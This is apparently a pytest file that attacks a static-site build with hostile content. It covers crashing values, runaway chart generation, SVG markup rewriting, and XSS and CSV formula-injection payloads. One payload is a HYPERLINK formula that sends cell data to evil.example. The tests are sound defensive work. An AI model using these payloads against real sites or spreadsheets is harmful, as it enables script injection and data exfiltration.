"""Shared measures, charts and open data under a hostile or careless pull request to content/.

Each test builds a small tree. A test that fails shows a defect: a build that stops with a crash
instead of a `path:line: what — fix` error, contributor text rewritten inside a chart's markup, work
that grows without bound, or values the charts and the data files disagree about. The passing tests
are attacks that are refused or made inert today, kept so they stay that way.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from tests.helpers import BASE_TREE, Build, assert_indexed_as_shown, build_site, write_tree

# The glue turns an exception it did not expect into this one line (no file, no line, no fix).
CRASH = "the build failed ("
VALUES = {
    "places/north-quay/measures.yml": """
        participants:
          2025-01: 34
          2025-02: 41
    """,
    "places/hillfoot/measures.yml": """
        participants:
          2025-01: 12
          2025-02: 15
    """,
}


def build(tmp_path: Path, files: dict[str, str], **options: str) -> Build:
    docs = write_tree(tmp_path / "content", {**BASE_TREE, **files})
    return build_site(docs, tmp_path / "site", **options)  # type: ignore[arg-type]


def refused(result: Build, path: str) -> None:
    """The build stopped with a message for people: `path:line: …`, not a crash."""
    assert result.returncode != 0, result.output
    assert CRASH not in result.output, result.output
    assert "Traceback" not in result.output, result.output
    assert re.search(rf"^{re.escape(path)}(:\d+)?: ", result.output, re.M), result.output


def charts(result: Build, url: str) -> list[str]:
    """The inline SVG charts of a page, as written."""
    return re.findall(r"<svg [^>]*class=\"la-chart.*?</svg>", result.page(url), re.S)


# -- values and periods that crash the build instead of naming the line ---------------------------


def test_a_value_too_large_for_a_float_is_a_message(tmp_path: Path) -> None:
    # A 400-digit integer: float() raises OverflowError in the loader.
    result = build(
        tmp_path, {"places/north-quay/measures.yml": "participants:\n  2025-01: " + "9" * 400 + "\n"}
    )
    refused(result, "places/north-quay/measures.yml")


def test_a_value_near_the_largest_float_does_not_crash_the_chart(tmp_path: Path) -> None:
    # 1.7e308 is finite, so the loader takes it; the chart's axis (top * 1.08) is infinite.
    result = build(tmp_path, {"places/north-quay/measures.yml": "participants:\n  2025-01: 1.7e+308\n"})
    assert CRASH not in result.output, result.output
    if result.returncode != 0:
        refused(result, "places/north-quay/measures.yml")


def test_values_whose_network_sum_is_infinite_do_not_crash(tmp_path: Path) -> None:
    # Each value is finite; their sum is not: number() calls int(inf).
    result = build(
        tmp_path,
        {
            "places/north-quay/measures.yml": "participants:\n  2025-01: 1.0e+308\n",
            "places/hillfoot/measures.yml": "participants:\n  2025-01: 1.0e+308\n",
        },
    )
    assert CRASH not in result.output, result.output
    if result.returncode != 0:
        refused(result, "places/hillfoot/measures.yml")


def test_a_year_before_1000_given_whole_and_in_parts_is_a_message(tmp_path: Path) -> None:
    # str(Period) writes year 999 as '999', so the overlap check's key lookup raises KeyError.
    result = build(
        tmp_path, {"places/north-quay/measures.yml": "participants:\n  '0999': 3\n  '0999-03': 4\n"}
    )
    refused(result, "places/north-quay/measures.yml")


def test_a_period_in_other_digits_is_refused(tmp_path: Path) -> None:
    # PERIOD's \d matched any Unicode digit: fullwidth 2025 passed, then the overlap check raised KeyError.
    result = build(
        tmp_path,
        {"places/north-quay/measures.yml": "participants:\n  '\uff12\uff10\uff12\uff15': 3\n  2025-03: 4\n"},
    )
    refused(result, "places/north-quay/measures.yml")


def test_a_period_in_other_digits_alone_is_refused(tmp_path: Path) -> None:
    # Without an overlap the build succeeded: the chart drew March 2025 once, while
    # measure-values.csv held two rows for it (Arabic-Indic 2025-03 and 2025-03), against its pattern.
    result = build(
        tmp_path,
        {
            "places/north-quay/measures.yml": "participants:\n  '\u0662\u0660\u0662\u0665-03': 3\n  2025-03: 4\n"
        },
    )
    refused(result, "places/north-quay/measures.yml")


def test_a_period_with_a_trailing_line_break_is_refused(tmp_path: Path) -> None:
    # PERIOD's `$` matches before a final '\n'; Period.parse('2025\n') then raises IndexError.
    result = build(tmp_path, {"places/north-quay/measures.yml": 'participants:\n  "2025\\n": 3\n'})
    refused(result, "places/north-quay/measures.yml")


def test_a_block_period_with_a_trailing_line_break_is_refused_before_building(tmp_path: Path) -> None:
    # Passes the block check, then crashes while the page is rendered (after MkDocs started writing).
    result = build(
        tmp_path,
        {**VALUES, "chart.md": '# Chart\n\n```learning-chart\nmeasure: participants\nfrom: "2025\\n"\n```\n'},
    )
    refused(result, "chart.md")


def test_the_same_period_written_as_number_and_text_is_not_silently_dropped(tmp_path: Path) -> None:
    # `2025: 1` and `'2025': 2` are two YAML keys but one period: one value silently replaces the other.
    result = build(tmp_path, {"places/north-quay/measures.yml": "participants:\n  2025: 1\n  '2025': 2\n"})
    refused(result, "places/north-quay/measures.yml")


# -- charts that legitimate content cannot draw ---------------------------------------------------


def test_a_bar_chart_of_every_place_in_a_network_of_22_places_is_drawn(tmp_path: Path) -> None:
    # The legend's room grows with the places until the axes' height is negative: ValueError
    # (the narrow copy, two legend columns, from 21 places; the wide one from 31).
    files: dict[str, str] = {}
    for n in range(22):
        files[f"places/place-{n:02d}/place.yml"] = f"name: Place {n:02d}\n"
        files[f"places/place-{n:02d}/measures.yml"] = "participants:\n  2025-01: 3\n  2025-02: 4\n"
    files["chart.md"] = "# Chart\n\n```learning-chart\nmeasure: participants\nkind: bar\n```\n"
    result = build(tmp_path, files)
    assert result.returncode == 0, result.output
    assert charts(result, "chart")


def test_a_long_measure_title_is_drawn(tmp_path: Path) -> None:
    # 800 characters wrap to more title lines than a narrow chart is high: ValueError.
    title = "word " * 160
    result = build(
        tmp_path, {**VALUES, "measures.yml": f"- id: participants\n  title: '{title}'\n  unit: people\n"}
    )
    assert CRASH not in result.output, result.output
    if result.returncode != 0:
        refused(result, "measures.yml")


def test_places_with_the_same_first_words_keep_distinct_labels(tmp_path: Path) -> None:
    # Labels are cut at 19 characters: two places become the same 'North Quay Communit…' on the chart.
    result = build(
        tmp_path,
        {
            **VALUES,
            "places/north-quay/place.yml": "name: North Quay Community Centre\n",
            "places/hillfoot/place.yml": "name: North Quay Community Garden\n",
        },
    )
    assert result.returncode == 0, result.output
    svg = charts(result, "measures/participants")[0]
    labels = [t for t in ElementTree.fromstring(svg).itertext() if t.startswith("North Quay")]
    assert len(set(labels)) == 2, labels


# -- contributor text is rewritten inside the chart's markup ---------------------------------------


@pytest.fixture(scope="module")
def rewritten(tmp_path_factory: pytest.TempPathFactory) -> Build:
    root = tmp_path_factory.mktemp("rewritten")
    result = build(
        root,
        {
            **VALUES,
            "measures.yml": """
                - id: participants
                  title: 'font-family: Garamond counts'
                  unit: 'people id="x" #010101 #0a030a'
            """,
            "places/north-quay/place.yml": "name: 'font-family: Quay'\n",  # short: named whole
        },
    )
    assert result.returncode == 0, result.output
    return result


def test_every_chart_is_well_formed_svg(rewritten: Build) -> None:
    # inline_svg's `font-family: [^;"]*` runs over text too: from a name it eats `</text></g><g>…`
    # up to the next quote, leaving <text> elements unclosed and a </clipPath> without its start.
    for url in ("measures/participants", "measures", "places/north-quay", ""):
        for svg in charts(rewritten, url):
            ElementTree.fromstring(svg)  # raises ParseError: mismatched tag


def test_names_and_units_are_drawn_as_written(rewritten: Build) -> None:
    text = " ".join(
        t
        for svg in charts(rewritten, "measures/participants")
        for t in ElementTree.fromstring(svg).itertext()
    )
    assert 'people id="x" #010101 #0a030a' in text, text
    assert "font-family: Quay" in text, text


# -- unbounded work -----------------------------------------------------------------------------


def test_a_measure_description_that_would_take_minutes_is_refused(tmp_path: Path) -> None:
    # A record body of 8,000 '[' is refused; a measure description (rendered twice) is not:
    # 8,000 take ~13 s, 20,000 take ~90 s.
    description = json.dumps("[" * 8000)
    started = time.monotonic()
    result = build(
        tmp_path,
        {"measures.yml": f"- id: participants\n  title: P\n  unit: people\n  description: {description}\n"},
    )
    assert result.returncode != 0 and "measures.yml:" in result.output, (
        f"built in {time.monotonic() - started:.0f} s"
    )


def test_two_lines_of_periods_do_not_make_a_huge_site(tmp_path: Path) -> None:
    # '0001' and '9999' make every chart and table span 9,999 years: ~50 s and an 18 MB site
    # (with months, '0001-01' and '9999-12': ~70 s, a 12 MB home page, a 14 MB measure page).
    started = time.monotonic()
    result = build(tmp_path, {"places/north-quay/measures.yml": "participants:\n  '0001': 1\n  '9999': 2\n"})
    took = time.monotonic() - started
    if result.returncode != 0:
        refused(result, "places/north-quay/measures.yml")
        return
    size = max(p.stat().st_size for p in result.site.rglob("*.html"))
    assert took < 20 and size < 2_000_000, f"{took:.0f} s, largest page {size:,} bytes"


def test_a_page_of_chart_blocks_does_not_take_minutes(tmp_path: Path) -> None:
    # Each block with its own range is two charts (wide and narrow), ~50 ms each, and nothing bounds
    # how many a page asks for: 1,000 blocks (about 60 KB of Markdown) took 104 s and 1,951 charts.
    months = [f"{y}-{m:02d}" for y in range(2016, 2026) for m in range(1, 13)]
    series = "".join(f"  {month}: {n % 12 + 1}\n" for n, month in enumerate(months))
    blocks = "".join(
        f"```learning-chart\nmeasure: participants\nfrom: {months[n % 119]}\n"
        f"until: {months[min(119, n % 119 + 1 + n // 119)]}\n```\n\n"
        for n in range(500)
    )
    started = time.monotonic()
    result = build(
        tmp_path,
        {
            "places/north-quay/measures.yml": "participants:\n" + series,
            "places/hillfoot/measures.yml": "participants:\n" + series,
            "charts.md": "# Charts\n\n" + blocks,
        },
    )
    took = time.monotonic() - started
    if result.returncode != 0:
        refused(result, "charts.md")
        return
    assert took < 20, f"500 chart blocks took {took:.0f} s"


# -- attacks that hold today ----------------------------------------------------------------------

HOSTILE = "<img src=x onerror=alert(1)></text><script>alert(2)</script>]]><!-- -->{{ 7*7 }}$x$"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TAB = "\t"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Build:
    root = tmp_path_factory.mktemp("hostile-measures")
    quoted = json.dumps(HOSTILE)
    result = build(
        root,
        {
            **VALUES,
            "measures.yml": f"""
                - id: participants
                  title: {json.dumps("=1+1 " + HOSTILE)}
                  unit: {json.dumps("@SUM(A1) " + HOSTILE)}
                  description: {json.dumps("-2+3 " + HOSTILE + " [a link](javascript:alert(3))")}
            """,
            "places/north-quay/place.yml": f"""
                name: {json.dumps('=HYPERLINK("http://evil.example/?"&A1) ' + HOSTILE)}
                region: {json.dumps("+1 " + HOSTILE)}
                summary: {json.dumps(TAB + "=1 " + HOSTILE)}
            """,
            "places/hillfoot/place.yml": f"name: {quoted}\n",
            "chart.md": "# Chart\n\n```learning-chart\nmeasure: participants\nkind: bar\n```\n",
        },
    )
    assert result.returncode == 0, result.output
    return result


def test_hostile_measure_and_place_text_never_becomes_markup(hostile: Build) -> None:
    for path, data in hostile.files().items():
        if not path.endswith(".html"):
            continue
        soup = BeautifulSoup(data.decode(), "html.parser")
        assert not [s for s in soup.find_all("script") if "alert" in s.get_text()], path
        for element in soup.find_all(True):
            assert not [a for a in element.attrs if a.lower().startswith("on")], f"{path}: {element.name}"


def test_hostile_measure_text_is_text_in_the_search_index(hostile: Build) -> None:
    for doc in hostile.search_index():
        assert_indexed_as_shown(hostile, doc)


def test_every_text_cell_of_every_csv_is_inert(hostile: Build) -> None:
    checked = 0
    for path in sorted((hostile.site / "data").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                checked += 1
                assert not cell.startswith(FORMULA_STARTS), f"{path.name}: {cell[:40]!r}"
    assert checked > 50


def test_generated_measure_and_data_addresses_cannot_be_taken(tmp_path: Path) -> None:
    for name, files in {
        "csv": {"data/records.csv": "a,b\n"},
        "page": {"measures/participants/index.md": "# Mine\n"},
        "index": {"measures.md": "# Mine\n"},
    }.items():
        result = build(tmp_path / name, files)
        refused(result, next(iter(files)))
